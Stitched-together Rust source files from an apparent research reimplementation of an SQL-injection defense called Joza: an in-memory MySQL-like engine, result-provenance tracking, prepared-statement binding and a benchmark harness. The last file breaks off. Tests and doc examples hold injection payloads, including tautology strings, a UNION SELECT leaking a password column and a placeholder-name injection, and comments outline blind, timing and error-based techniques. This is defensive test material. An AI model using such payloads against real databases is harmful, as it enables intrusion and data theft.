                    for (_, name, value) in &e.entries {
                        cols.push(name.clone());
                        row.push(value.clone());
                    }
                }
                None => {
                    return Err(DbError::Other("SELECT * with no FROM clause".into()));
                }
            },
            Projection::QualifiedWildcard(q) => match env {
                Some(e) => {
                    let ql = q.to_ascii_lowercase();
                    for (qual, name, value) in &e.entries {
                        if qual.as_deref() == Some(ql.as_str()) {
                            cols.push(name.clone());
                            row.push(value.clone());
                        }
                    }
                }
                None => {
                    return Err(DbError::Other("qualified * with no FROM clause".into()));
                }
            },
            Projection::Expr { expr, alias } => {
                cols.push(alias.clone().unwrap_or_else(|| expr_name(expr)));
                row.push(eval(ctx, side, expr)?);
            }
        }
    }
    Ok((cols, row))
}

/// Column names for an empty result (no rows to expand wildcards against).
fn project_names_only(
    _ctx: Ctx<'_>,
    sel: &SelectStatement,
    _envs: &[Env],
) -> Result<(Vec<String>, ()), DbError> {
    let mut cols = Vec::new();
    for p in &sel.projections {
        match p {
            Projection::Wildcard | Projection::QualifiedWildcard(_) => cols.push("*".to_string()),
            Projection::Expr { expr, alias } => {
                cols.push(alias.clone().unwrap_or_else(|| expr_name(expr)));
            }
        }
    }
    Ok((cols, ()))
}

fn expr_name(e: &Expr) -> String {
    match e {
        Expr::Column(c) => c.name.clone(),
        Expr::Function { name, .. } => format!("{name}()"),
        Expr::Literal(v) => v.to_string(),
        _ => "expr".to_string(),
    }
}

fn order_keys(
    ctx: Ctx<'_>,
    side: &mut SideEffects,
    sel: &SelectStatement,
) -> Result<Vec<Value>, DbError> {
    let mut keys = Vec::with_capacity(sel.order_by.len());
    for item in &sel.order_by {
        keys.push(eval(ctx, side, &item.expr)?);
    }
    Ok(keys)
}

pub(crate) fn run_insert(
    db: &mut Database,
    ins: &InsertStatement,
    side: &mut SideEffects,
) -> Result<usize, DbError> {
    // Evaluate all rows first (read-only borrow), then apply.
    let mut evaluated: Vec<Vec<Value>> = Vec::with_capacity(ins.rows.len());
    {
        let db_ref: &Database = db;
        let ctx = Ctx { db: db_ref, env: None, group: None, outer: None };
        for row in &ins.rows {
            let mut vals = Vec::with_capacity(row.len());
            for e in row {
                vals.push(eval(ctx, side, e)?);
            }
            evaluated.push(vals);
        }
    }
    let key = ins.table.to_ascii_lowercase();
    let table = db.tables.get_mut(&key).ok_or_else(|| DbError::UnknownTable(ins.table.clone()))?;
    let mut affected = 0;
    for vals in evaluated {
        let row = if ins.columns.is_empty() {
            vals
        } else {
            // Map named columns onto schema positions.
            let mut row = vec![Value::Null; table.columns().len()];
            for (col, val) in ins.columns.iter().zip(vals) {
                let idx =
                    table.column_index(col).ok_or_else(|| DbError::UnknownColumn(col.clone()))?;
                row[idx] = val;
            }
            row
        };
        table.push_row(row);
        affected += 1;
    }
    Ok(affected)
}

pub(crate) fn run_update(
    db: &mut Database,
    upd: &UpdateStatement,
    side: &mut SideEffects,
) -> Result<usize, DbError> {
    let key = upd.table.to_ascii_lowercase();
    let table = db.tables.get(&key).ok_or_else(|| DbError::UnknownTable(upd.table.clone()))?;
    let columns: Vec<String> = table.columns().to_vec();
    let name = table.name().to_string();

    // Pass 1 (read-only): decide which rows match and compute new values.
    let mut updates: Vec<(usize, Vec<(usize, Value)>)> = Vec::new();
    {
        let db_ref: &Database = db;
        let table = db_ref.table(&upd.table).expect("checked above");
        for (ri, row) in table.rows().iter().enumerate() {
            let mut env = Env::default();
            for (col, val) in columns.iter().zip(row) {
                env.push(Some(&name), col, val.clone());
            }
            let ctx = Ctx { db: db_ref, env: Some(&env), group: None, outer: None };
            let hit = match &upd.where_clause {
                Some(pred) => eval(ctx, side, pred)?.is_truthy(),
                None => true,
            };
            if hit {
                let mut assignments = Vec::with_capacity(upd.assignments.len());
                for (col, e) in &upd.assignments {
                    let idx = columns
                        .iter()
                        .position(|c| c.eq_ignore_ascii_case(col))
                        .ok_or_else(|| DbError::UnknownColumn(col.clone()))?;
                    assignments.push((idx, eval(ctx, side, e)?));
                }
                updates.push((ri, assignments));
            }
        }
    }
    // LIMIT applies to matched rows in order.
    if let Some(limit) = &upd.limit {
        let ctx = Ctx { db, env: None, group: None, outer: None };
        let count = eval(ctx, side, &limit.count)?.as_i64().max(0) as usize;
        updates.truncate(count);
    }
    let affected = updates.len();
    let table = db.tables.get_mut(&key).expect("checked above");
    for (ri, assignments) in updates {
        for (ci, val) in assignments {
            table.rows_mut()[ri][ci] = val;
        }
    }
    Ok(affected)
}

pub(crate) fn run_delete(
    db: &mut Database,
    del: &DeleteStatement,
    side: &mut SideEffects,
) -> Result<usize, DbError> {
    let key = del.table.to_ascii_lowercase();
    let table = db.tables.get(&key).ok_or_else(|| DbError::UnknownTable(del.table.clone()))?;
    let columns: Vec<String> = table.columns().to_vec();
    let name = table.name().to_string();

    let mut doomed: Vec<usize> = Vec::new();
    {
        let db_ref: &Database = db;
        let table = db_ref.table(&del.table).expect("checked above");
        for (ri, row) in table.rows().iter().enumerate() {
            let mut env = Env::default();
            for (col, val) in columns.iter().zip(row) {
                env.push(Some(&name), col, val.clone());
            }
            let ctx = Ctx { db: db_ref, env: Some(&env), group: None, outer: None };
            let hit = match &del.where_clause {
                Some(pred) => eval(ctx, side, pred)?.is_truthy(),
                None => true,
            };
            if hit {
                doomed.push(ri);
            }
        }
    }
    if let Some(limit) = &del.limit {
        let ctx = Ctx { db, env: None, group: None, outer: None };
        let count = eval(ctx, side, &limit.count)?.as_i64().max(0) as usize;
        doomed.truncate(count);
    }
    let affected = doomed.len();
    let table = db.tables.get_mut(&key).expect("checked above");
    for ri in doomed.into_iter().rev() {
        table.rows_mut().remove(ri);
    }
    Ok(affected)
}
