//! Result-column provenance: which `(table, column)` cells feed each
//! output column of a `SELECT`.
//!
//! The second-order defense needs to know, per fetched value, which
//! stored cells it may have come from: the gate treats values originating
//! in *dirty* cells (cells the static store/load pass marked
//! attacker-reachable) as taint sources for the current request. Origins
//! are computed from the statement and the schema — per column, not per
//! row — so the cost is independent of the result size.
//!
//! The resolution is deliberately inclusive: a computed projection
//! (`CONCAT(a, b)`) carries every referenced column, an unqualified
//! column in a join is attributed to every table that has it, and
//! `UNION` arms merge positionally. Over-attribution only means the gate
//! captures an extra input; it never drops one.

use crate::engine::Database;
use joza_sqlparse::ast::{Expr, Projection, SelectStatement, TableRef};

/// One origin cell: `(table, column)`, lowercased.
pub type Origin = (String, String);

/// Tables in scope for a `SELECT` body: `(alias-or-name, table)` pairs,
/// FROM first, then JOINs — the same order the executor expands `*` in.
fn scope(db: &Database, sel: &SelectStatement) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut push = |t: &TableRef| {
        let name = t.name.to_ascii_lowercase();
        if db.table(&name).is_some() {
            let alias =
                t.alias.as_deref().map(str::to_ascii_lowercase).unwrap_or_else(|| name.clone());
            out.push((alias, name));
        }
    };
    if let Some(t) = &sel.from {
        push(t);
    }
    for j in &sel.joins {
        push(&j.table);
    }
    out
}

fn resolve(
    db: &Database,
    scope: &[(String, String)],
    qualifier: Option<&str>,
    column: &str,
    out: &mut Vec<Origin>,
) {
    let col = column.to_ascii_lowercase();
    match qualifier {
        Some(q) => {
            let q = q.to_ascii_lowercase();
            if let Some((_, table)) = scope.iter().find(|(a, _)| *a == q) {
                push_unique(out, (table.clone(), col));
            }
        }
        None => {
            // Attribute to every in-scope table that has the column.
            for (_, table) in scope {
                let has = db.table(table).is_some_and(|t| t.column_index(&col).is_some());
                if has {
                    push_unique(out, (table.clone(), col.clone()));
                }
            }
        }
    }
}

fn push_unique(out: &mut Vec<Origin>, o: Origin) {
    if !out.contains(&o) {
        out.push(o);
    }
}

/// Collects the origin cells of one projected expression.
fn expr_origins(db: &Database, scope_t: &[(String, String)], e: &Expr, out: &mut Vec<Origin>) {
    match e {
        Expr::Column(c) => resolve(db, scope_t, c.table.as_deref(), &c.name, out),
        Expr::Unary { expr, .. } | Expr::IsNull { expr, .. } => {
            expr_origins(db, scope_t, expr, out)
        }
        Expr::Binary { left, right, .. } => {
            expr_origins(db, scope_t, left, out);
            expr_origins(db, scope_t, right, out);
        }
        Expr::Function { args, .. } => {
            for a in args {
                expr_origins(db, scope_t, a, out);
            }
        }
        Expr::InList { expr, list, .. } => {
            expr_origins(db, scope_t, expr, out);
            for x in list {
                expr_origins(db, scope_t, x, out);
            }
        }
        Expr::Between { expr, low, high, .. } => {
            expr_origins(db, scope_t, expr, out);
            expr_origins(db, scope_t, low, out);
            expr_origins(db, scope_t, high, out);
        }
        Expr::Like { expr, pattern, .. } => {
            expr_origins(db, scope_t, expr, out);
            expr_origins(db, scope_t, pattern, out);
        }
        Expr::Case { operand, branches, else_arm } => {
            if let Some(o) = operand {
                expr_origins(db, scope_t, o, out);
            }
            for (w, t) in branches {
                expr_origins(db, scope_t, w, out);
                expr_origins(db, scope_t, t, out);
            }
            if let Some(x) = else_arm {
                expr_origins(db, scope_t, x, out);
            }
        }
        Expr::Subquery(sub) | Expr::Exists(sub) => {
            // A scalar subquery's value comes from its own projections.
            for col in select_origins(db, sub) {
                for o in col {
                    push_unique(out, o);
                }
            }
        }
        Expr::InSubquery { expr, .. } => expr_origins(db, scope_t, expr, out),
        _ => {}
    }
}

/// Origins of one `SELECT` body, before `UNION` merging.
fn body_origins(db: &Database, sel: &SelectStatement) -> Vec<Vec<Origin>> {
    let scope_t = scope(db, sel);
    let mut out: Vec<Vec<Origin>> = Vec::new();
    for p in &sel.projections {
        match p {
            Projection::Wildcard => {
                for (_, table) in &scope_t {
                    if let Some(t) = db.table(table) {
                        for c in t.columns() {
                            out.push(vec![(table.clone(), c.to_ascii_lowercase())]);
                        }
                    }
                }
            }
            Projection::QualifiedWildcard(q) => {
                let q = q.to_ascii_lowercase();
                if let Some((_, table)) = scope_t.iter().find(|(a, _)| *a == q) {
                    if let Some(t) = db.table(table) {
                        for c in t.columns() {
                            out.push(vec![(table.clone(), c.to_ascii_lowercase())]);
                        }
                    }
                }
            }
            Projection::Expr { expr, .. } => {
                let mut origins = Vec::new();
                expr_origins(db, &scope_t, expr, &mut origins);
                out.push(origins);
            }
        }
    }
    out
}

/// Per-output-column origin cells for a `SELECT` (including `UNION`
/// continuations, merged positionally).
pub(crate) fn select_origins(db: &Database, sel: &SelectStatement) -> Vec<Vec<Origin>> {
    let mut cols = body_origins(db, sel);
    for (_, arm) in &sel.set_ops {
        for (i, arm_col) in select_origins(db, arm).into_iter().enumerate() {
            match cols.get_mut(i) {
                Some(c) => {
                    for o in arm_col {
                        push_unique(c, o);
                    }
                }
                None => cols.push(arm_col),
            }
        }
    }
    cols
}

#[cfg(test)]
mod tests {
    use super::*;
    use joza_sqlparse::Value;

    fn db() -> Database {
        let mut db = Database::new();
        db.create_table("profiles", &["id", "bio", "sig"]);
        db.insert_row("profiles", vec![Value::Int(1), "hello".into(), "s".into()]);
        db.create_table("posts", &["id", "title"]);
        db.insert_row("posts", vec![Value::Int(1), "t".into()]);
        db
    }

    #[test]
    fn direct_and_wildcard_projections() {
        let mut d = db();
        let r = d.execute("SELECT bio FROM profiles").unwrap();
        assert_eq!(r.origins, vec![vec![("profiles".to_string(), "bio".to_string())]]);

        let r = d.execute("SELECT * FROM profiles").unwrap();
        assert_eq!(r.origins.len(), 3);
        assert_eq!(r.origins[1], vec![("profiles".to_string(), "bio".to_string())]);
    }

    #[test]
    fn computed_projection_carries_all_referenced_columns() {
        let mut d = db();
        let r = d.execute("SELECT CONCAT(bio, sig) FROM profiles").unwrap();
        assert_eq!(r.origins.len(), 1);
        assert!(r.origins[0].contains(&("profiles".to_string(), "bio".to_string())));
        assert!(r.origins[0].contains(&("profiles".to_string(), "sig".to_string())));
    }

    #[test]
    fn union_merges_positionally() {
        let mut d = db();
        let r = d.execute("SELECT bio FROM profiles UNION SELECT title FROM posts").unwrap();
        assert_eq!(r.origins.len(), 1);
        assert!(r.origins[0].contains(&("profiles".to_string(), "bio".to_string())));
        assert!(r.origins[0].contains(&("posts".to_string(), "title".to_string())));
    }

    #[test]
    fn writes_have_no_origins() {
        let mut d = db();
        let r = d.execute("INSERT INTO posts (id, title) VALUES (2, 'x')").unwrap();
        assert!(r.origins.is_empty());
    }
}
