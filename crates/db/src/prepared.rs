//! Prepared statements: parse once, bind values as *data*.
//!
//! "Prepared statements are used to prevent SQL injection … and any input
//! provided by an attacker would be treated as data by the backend
//! database. Unfortunately, prepared statements are not a panacea." (§V-B)
//!
//! Binding works by AST substitution: every [`Expr::Placeholder`] is
//! replaced with an [`Expr::Literal`] carrying the bound [`Value`].
//! Because the value enters the tree as a literal node, it is never
//! re-lexed or re-parsed — a bound string containing `' OR 1=1` stays an
//! inert string, which is exactly the guarantee real prepared statements
//! provide. The Drupal CVE-2014-3704 case study attacks the step *before*
//! binding: application code splices attacker-controlled placeholder
//! *names* into the statement text, which no amount of binding can fix.

use crate::engine::{Database, DbError, QueryResult};
use joza_sqlparse::ast::*;
use joza_sqlparse::parser::parse;
use joza_sqlparse::Value;
use std::collections::HashMap;

impl Database {
    /// Parses `sql`, binds `params` (name → value, names include the
    /// leading `:`; positional `?` placeholders bind to `"?"` in order of
    /// appearance is *not* supported — use named placeholders), and
    /// executes the statement.
    ///
    /// # Errors
    ///
    /// Returns [`DbError::Parse`] on parse failure, [`DbError::Other`]
    /// when a placeholder has no binding, and any execution error.
    ///
    /// # Examples
    ///
    /// ```
    /// use joza_db::{Database, Value};
    ///
    /// let mut db = Database::new();
    /// db.create_table("t", &["id", "name"]);
    /// db.insert_row("t", vec![Value::Int(1), "alice".into()]);
    ///
    /// let r = db
    ///     .execute_prepared(
    ///         "SELECT name FROM t WHERE id = :id",
    ///         &[(":id".to_string(), Value::Int(1))],
    ///     )
    ///     .expect("prepared select");
    /// assert_eq!(r.rows[0][0].as_str(), "alice");
    ///
    /// // A hostile *bound value* stays data: no rows, no injection.
    /// let r = db
    ///     .execute_prepared(
    ///         "SELECT name FROM t WHERE name = :n",
    ///         &[(":n".to_string(), "x' OR '1'='1".into())],
    ///     )
    ///     .expect("prepared select");
    /// assert!(r.rows.is_empty());
    /// ```
    pub fn execute_prepared(
        &mut self,
        sql: &str,
        params: &[(String, Value)],
    ) -> Result<QueryResult, DbError> {
        let mut stmt = parse(sql)?;
        let map: HashMap<&str, &Value> = params.iter().map(|(k, v)| (k.as_str(), v)).collect();
        bind_statement(&mut stmt, &map)?;
        self.execute_parsed(&stmt)
    }
}

fn missing(name: &str) -> DbError {
    DbError::Other(format!("no value bound for placeholder {name}"))
}

fn bind_statement(stmt: &mut Statement, params: &HashMap<&str, &Value>) -> Result<(), DbError> {
    match stmt {
        Statement::Select(s) => bind_select(s, params),
        Statement::Insert(i) => {
            for row in &mut i.rows {
                for e in row {
                    bind_expr(e, params)?;
                }
            }
            Ok(())
        }
        Statement::Update(u) => {
            for (_, e) in &mut u.assignments {
                bind_expr(e, params)?;
            }
            bind_opt(&mut u.where_clause, params)?;
            bind_limit(&mut u.limit, params)
        }
        Statement::Delete(d) => {
            bind_opt(&mut d.where_clause, params)?;
            bind_limit(&mut d.limit, params)
        }
    }
}

fn bind_select(s: &mut SelectStatement, params: &HashMap<&str, &Value>) -> Result<(), DbError> {
    for p in &mut s.projections {
        if let Projection::Expr { expr, .. } = p {
            bind_expr(expr, params)?;
        }
    }
    for j in &mut s.joins {
        bind_opt(&mut j.on, params)?;
    }
    bind_opt(&mut s.where_clause, params)?;
    for g in &mut s.group_by {
        bind_expr(g, params)?;
    }
    bind_opt(&mut s.having, params)?;
    for o in &mut s.order_by {
        bind_expr(&mut o.expr, params)?;
    }
    bind_limit(&mut s.limit, params)?;
    for (_, sub) in &mut s.set_ops {
        bind_select(sub, params)?;
    }
    Ok(())
}

fn bind_limit(limit: &mut Option<Limit>, params: &HashMap<&str, &Value>) -> Result<(), DbError> {
    if let Some(l) = limit {
        bind_opt(&mut l.offset, params)?;
        bind_expr(&mut l.count, params)?;
    }
    Ok(())
}

fn bind_opt(e: &mut Option<Expr>, params: &HashMap<&str, &Value>) -> Result<(), DbError> {
    match e {
        Some(e) => bind_expr(e, params),
        None => Ok(()),
    }
}

fn bind_expr(e: &mut Expr, params: &HashMap<&str, &Value>) -> Result<(), DbError> {
    match e {
        Expr::Placeholder(name) => {
            let v = params.get(name.as_str()).ok_or_else(|| missing(name))?;
            *e = Expr::Literal((*v).clone());
            Ok(())
        }
        Expr::Literal(_) | Expr::Column(_) | Expr::Wildcard | Expr::Variable(_) => Ok(()),
        Expr::Unary { expr, .. } => bind_expr(expr, params),
        Expr::Binary { left, right, .. } => {
            bind_expr(left, params)?;
            bind_expr(right, params)
        }
        Expr::Function { args, .. } => {
            for a in args {
                bind_expr(a, params)?;
            }
            Ok(())
        }
        Expr::IsNull { expr, .. } => bind_expr(expr, params),
        Expr::InList { expr, list, .. } => {
            bind_expr(expr, params)?;
            for i in list {
                bind_expr(i, params)?;
            }
            Ok(())
        }
        Expr::InSubquery { expr, subquery, .. } => {
            bind_expr(expr, params)?;
            bind_select(subquery, params)
        }
        Expr::Between { expr, low, high, .. } => {
            bind_expr(expr, params)?;
            bind_expr(low, params)?;
            bind_expr(high, params)
        }
        Expr::Like { expr, pattern, .. } => {
            bind_expr(expr, params)?;
            bind_expr(pattern, params)
        }
        Expr::Subquery(s) | Expr::Exists(s) => bind_select(s, params),
        Expr::Case { operand, branches, else_arm } => {
            if let Some(o) = operand {
                bind_expr(o, params)?;
            }
            for (w, t) in branches {
                bind_expr(w, params)?;
                bind_expr(t, params)?;
            }
            if let Some(el) = else_arm {
                bind_expr(el, params)?;
            }
            Ok(())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn db() -> Database {
        let mut db = Database::new();
        db.create_table("t", &["id", "name"]);
        for (i, n) in [(1, "alice"), (2, "bob"), (3, "carol")] {
            db.insert_row("t", vec![Value::Int(i), n.into()]);
        }
        db
    }

    #[test]
    fn named_binding_in_where() {
        let mut db = db();
        let r = db
            .execute_prepared("SELECT name FROM t WHERE id = :id", &[(":id".into(), Value::Int(2))])
            .unwrap();
        assert_eq!(r.rows.len(), 1);
        assert_eq!(r.rows[0][0].as_str(), "bob");
    }

    #[test]
    fn in_list_with_multiple_placeholders() {
        let mut db = db();
        let r = db
            .execute_prepared(
                "SELECT name FROM t WHERE id IN (:a, :b)",
                &[(":a".into(), Value::Int(1)), (":b".into(), Value::Int(3))],
            )
            .unwrap();
        assert_eq!(r.rows.len(), 2);
    }

    #[test]
    fn bound_injection_payload_stays_data() {
        let mut db = db();
        let r = db
            .execute_prepared(
                "SELECT name FROM t WHERE name = :n",
                &[(":n".into(), "alice' OR '1'='1".into())],
            )
            .unwrap();
        assert!(r.rows.is_empty(), "bound payload must be inert data");
        // …whereas string concatenation of the same payload is an attack:
        let r = db.execute("SELECT name FROM t WHERE name = 'alice' OR '1'='1'").unwrap();
        assert_eq!(r.rows.len(), 3);
    }

    #[test]
    fn unbound_placeholder_errors() {
        let mut db = db();
        let err = db.execute_prepared("SELECT name FROM t WHERE id = :id", &[]).unwrap_err();
        assert!(err.to_string().contains(":id"), "{err}");
    }

    #[test]
    fn binding_in_insert_and_update() {
        let mut db = db();
        db.execute_prepared(
            "INSERT INTO t (id, name) VALUES (:id, :name)",
            &[(":id".into(), Value::Int(4)), (":name".into(), "dave".into())],
        )
        .unwrap();
        db.execute_prepared(
            "UPDATE t SET name = :n WHERE id = :id",
            &[(":n".into(), "DAVE".into()), (":id".into(), Value::Int(4))],
        )
        .unwrap();
        let r = db.execute("SELECT name FROM t WHERE id = 4").unwrap();
        assert_eq!(r.rows[0][0].as_str(), "DAVE");
    }

    #[test]
    fn placeholder_name_injection_is_the_remaining_hole() {
        // The Drupal pattern: the *statement text* already contains the
        // attack because placeholder names were built from input. Binding
        // is irrelevant at that point.
        let mut db = db();
        let r = db
            .execute_prepared(
                "SELECT name FROM t WHERE id IN (:ids_0) UNION SELECT name FROM t-- -)",
                &[(":ids_0".into(), Value::Int(99))],
            )
            .unwrap();
        assert_eq!(r.rows.len(), 3, "injected UNION executes despite binding");
    }
}
