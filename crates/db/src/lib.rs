#![warn(missing_docs)]
//! In-memory MySQL-subset database engine for Joza.
//!
//! The paper's testbed runs WordPress against MySQL; exploits are judged by
//! what the database actually *does* — union-based exploits leak rows,
//! boolean-blind exploits flip result emptiness, double-blind exploits
//! stretch response time via `SLEEP`/`BENCHMARK`, and error-based payloads
//! (`EXTRACTVALUE`/`UPDATEXML`) smuggle data through error messages. This
//! engine executes the [`joza_sqlparse`] AST with enough MySQL semantics
//! for all four behaviours to be observable:
//!
//! * `SELECT` with joins, `WHERE`, `GROUP BY`/aggregates, `HAVING`,
//!   `ORDER BY`, `LIMIT`, `UNION [ALL]`, subqueries;
//! * `INSERT`/`REPLACE`/`UPDATE`/`DELETE`;
//! * the MySQL function vocabulary injection payloads rely on (`CHAR`,
//!   `CONCAT`, `VERSION`, `USER`, `IF`, `SUBSTRING`, `ASCII`, …);
//! * a **virtual clock**: `SLEEP(n)` charges `n` seconds to the query's
//!   elapsed time without actually sleeping, so double-blind timing
//!   experiments run at full speed and deterministically.
//!
//! # Examples
//!
//! ```
//! use joza_db::{Database, Value};
//!
//! let mut db = Database::new();
//! db.create_table("users", &["id", "name", "pass"]);
//! db.insert_row("users", vec![Value::Int(1), "alice".into(), "s3cret".into()]);
//!
//! let r = db.execute("SELECT name FROM users WHERE id = 1")?;
//! assert_eq!(r.rows[0][0], Value::Str("alice".into()));
//!
//! // A union-based injection observably leaks the password column.
//! let r = db.execute("SELECT name FROM users WHERE id = -1 UNION SELECT pass FROM users")?;
//! assert_eq!(r.rows[0][0], Value::Str("s3cret".into()));
//! # Ok::<(), joza_db::DbError>(())
//! ```

mod engine;
mod eval;
mod exec;
mod origins;
mod prepared;
mod table;

pub use engine::{Database, DbError, QueryResult};
pub use joza_sqlparse::Value;
pub use table::Table;
