//! Table storage.

use joza_sqlparse::Value;

/// An in-memory table: a named schema plus row storage.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    name: String,
    columns: Vec<String>,
    rows: Vec<Vec<Value>>,
}

impl Table {
    /// Creates an empty table with the given column names.
    pub fn new(name: impl Into<String>, columns: &[&str]) -> Self {
        Table {
            name: name.into(),
            columns: columns.iter().map(|c| c.to_string()).collect(),
            rows: Vec::new(),
        }
    }

    /// The table's name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The column names, in schema order.
    pub fn columns(&self) -> &[String] {
        &self.columns
    }

    /// The stored rows.
    pub fn rows(&self) -> &[Vec<Value>] {
        &self.rows
    }

    /// Mutable access to rows (used by UPDATE/DELETE executors).
    pub(crate) fn rows_mut(&mut self) -> &mut Vec<Vec<Value>> {
        &mut self.rows
    }

    /// Index of a column by case-insensitive name.
    pub fn column_index(&self, name: &str) -> Option<usize> {
        self.columns.iter().position(|c| c.eq_ignore_ascii_case(name))
    }

    /// Appends a row, padding or truncating to the schema width.
    pub fn push_row(&mut self, mut row: Vec<Value>) {
        row.resize(self.columns.len(), Value::Null);
        self.rows.push(row);
    }

    /// Number of rows.
    pub fn len(&self) -> usize {
        self.rows.len()
    }

    /// Whether the table has no rows.
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn schema_and_rows() {
        let mut t = Table::new("users", &["id", "name"]);
        assert_eq!(t.name(), "users");
        assert_eq!(t.column_index("NAME"), Some(1));
        assert_eq!(t.column_index("missing"), None);
        t.push_row(vec![Value::Int(1)]);
        assert_eq!(t.rows()[0], vec![Value::Int(1), Value::Null]);
        t.push_row(vec![Value::Int(2), "x".into(), "extra".into()]);
        assert_eq!(t.rows()[1].len(), 2);
        assert_eq!(t.len(), 2);
        assert!(!t.is_empty());
    }
}
