#![warn(missing_docs)]
//! Experiment harness regenerating every table and figure of the Joza
//! paper's evaluation (§V, §VI).
//!
//! Each table/figure has a dedicated binary (`table1` … `table7`, `fig7`,
//! `fig8`; `all` runs everything). The shared machinery lives here:
//!
//! * [`security`] — the §V security evaluation: NTI / PTI / Joza against
//!   original, NTI-mutated and Taintless-mutated exploits across the
//!   50-plugin corpus and the three CMS cases (Tables II & IV), the
//!   SQLMap sweep (Table II), and the false-positive crawl;
//! * [`workload`] — the §VI performance evaluation: site crawls (reads),
//!   random comments (writes) and random searches, measured plain vs.
//!   protected under each cache/deployment configuration (Table V,
//!   Table VI, Figures 7 & 8);
//! * [`wpcom`] — the Wordpress.com workload statistics of Table VII;
//! * [`report`] — plain-text table rendering.

pub mod report;
pub mod security;
pub mod workload;
pub mod wpcom;
