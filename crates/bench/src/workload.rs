//! The §VI performance evaluation machinery.
//!
//! Workloads mirror the paper's: a full site crawl (reads — §VI-A's 1001
//! unique URLs yielding ~20 queries per page), random comment posting
//! (writes), and random searches. Each workload runs twice — plain and
//! behind a Joza gate — and the overhead is the relative wall-clock
//! difference. Joza's per-component time (NTI vs PTI) comes from the
//! engine's internal accounting.
//!
//! # Cost calibration
//!
//! The paper's substrate is real WordPress under real PHP: a plain read
//! request costs ~218 ms, a write ~331 ms (derived from Table VI), and
//! the PHP side of the daemon protocol costs real time per query. Our
//! substrate is a PHP-subset interpreter and an in-memory database —
//! orders of magnitude faster — so without a cost model every overhead
//! percentage would be computed against an unrepresentatively tiny
//! denominator. The harness therefore runs at **1/25 of the paper's
//! absolute time scale** with the following modeled costs (all default to
//! zero outside this harness; see `DESIGN.md` substitution table):
//!
//! * per-route page-render cost (theme/template work);
//! * per-query PHP wrapper cost (interception bookkeeping);
//! * per-daemon-round-trip pipe cost and full-analysis response
//!   deserialization cost (PHP `fwrite`/`fread`/`unserialize`);
//! * per-daemon-spawn cost (process launch + fragment DB load).
//!
//! Everything Joza actually computes — NTI edit distances, PTI fragment
//! matching, parsing, caching — is genuinely measured.

use joza_core::{Joza, JozaConfig};
use joza_lab::{build_lab, wordpress, Lab};
use joza_pti::daemon::{DaemonMode, PtiComponentConfig};
use joza_pti::{MatcherKind, PtiConfig};
use joza_webapp::request::HttpRequest;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::time::Duration;

/// Time-scale divisor relative to the paper's testbed (a 2.9 GHz iMac
/// serving real WordPress). All calibrated costs below are paper-observed
/// magnitudes divided by this.
pub const TIME_SCALE: u32 = 25;

/// Plain render cost of a read route (paper: ~218 ms, Table VI).
pub const READ_RENDER_COST: Duration = Duration::from_micros(218_000 / TIME_SCALE as u64);
/// Plain render cost of the comment-post route (paper: ~331 ms, derived
/// from Table VI's 50/50 and 1/99 rows).
pub const WRITE_RENDER_COST: Duration = Duration::from_micros(331_000 / TIME_SCALE as u64);
/// Plain render cost of the search route (search pages render less).
pub const SEARCH_RENDER_COST: Duration = Duration::from_micros(150_000 / TIME_SCALE as u64);

/// Modeled PHP-side wrapper cost per intercepted query.
pub const WRAPPER_COST: Duration = Duration::from_micros(4);
/// Modeled PHP-side pipe round-trip cost per daemon check.
pub const PIPE_COST: Duration = Duration::from_micros(420);
/// Modeled PHP-side cost of deserializing a full-analysis response
/// (query structure + taint result, §IV-C1).
pub const RESPONSE_PARSE_COST: Duration = Duration::from_micros(1_030);
/// Modeled daemon spawn cost (process launch + fragment DB load).
pub const SPAWN_COST: Duration = Duration::from_micros(2_500);

/// Number of synthetic core source files loaded into the perf lab so the
/// fragment vocabulary has WordPress-plus-50-plugins scale (§VI-A).
pub const SYNTHETIC_CORE_FILES: usize = 280;

/// Deployment/caching configurations of Table V.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Setup {
    /// Unoptimized prototype: per-query process spawn, naive matcher, no
    /// caches, no parse-first (§VI-A's "initial implementation").
    Unoptimized,
    /// Optimized daemon without caches (MRU + parse-first, long-lived).
    DaemonNoCache,
    /// Optimized daemon + query cache.
    DaemonQueryCache,
    /// Optimized daemon + query cache + structure cache (the shipped
    /// configuration).
    DaemonFullCache,
    /// In-process analysis + both caches: the paper's "PTI as a PHP
    /// extension" overhead estimate (§VI-C).
    ExtensionEstimate,
}

impl Setup {
    /// The Joza configuration for this setup, with the harness's
    /// calibrated PHP-boundary costs applied.
    pub fn joza_config(self) -> JozaConfig {
        let boundary = |mode| match mode {
            DaemonMode::InProcess => (Duration::ZERO, Duration::ZERO, Duration::ZERO),
            _ => (PIPE_COST, RESPONSE_PARSE_COST, SPAWN_COST),
        };
        let pti = match self {
            Setup::Unoptimized => {
                let (pipe_cost, response_parse_cost, spawn_cost) = boundary(DaemonMode::PerQuery);
                PtiComponentConfig {
                    mode: DaemonMode::PerQuery,
                    query_cache: false,
                    structure_cache: false,
                    pti: PtiConfig {
                        matcher: MatcherKind::Naive,
                        parse_first: false,
                        ..Default::default()
                    },
                    pipe_cost,
                    response_parse_cost,
                    spawn_cost,
                    ..Default::default()
                }
            }
            Setup::DaemonNoCache => {
                let (pipe_cost, response_parse_cost, spawn_cost) = boundary(DaemonMode::LongLived);
                PtiComponentConfig {
                    mode: DaemonMode::LongLived,
                    query_cache: false,
                    structure_cache: false,
                    pti: PtiConfig::optimized(),
                    pipe_cost,
                    response_parse_cost,
                    spawn_cost,
                    ..Default::default()
                }
            }
            Setup::DaemonQueryCache => {
                let (pipe_cost, response_parse_cost, spawn_cost) = boundary(DaemonMode::LongLived);
                PtiComponentConfig {
                    mode: DaemonMode::LongLived,
                    query_cache: true,
                    structure_cache: false,
                    pti: PtiConfig::optimized(),
                    pipe_cost,
                    response_parse_cost,
                    spawn_cost,
                    ..Default::default()
                }
            }
            Setup::DaemonFullCache => {
                let (pipe_cost, response_parse_cost, spawn_cost) = boundary(DaemonMode::LongLived);
                PtiComponentConfig {
                    pipe_cost,
                    response_parse_cost,
                    spawn_cost,
                    ..PtiComponentConfig::optimized()
                }
            }
            Setup::ExtensionEstimate => PtiComponentConfig {
                mode: DaemonMode::InProcess,
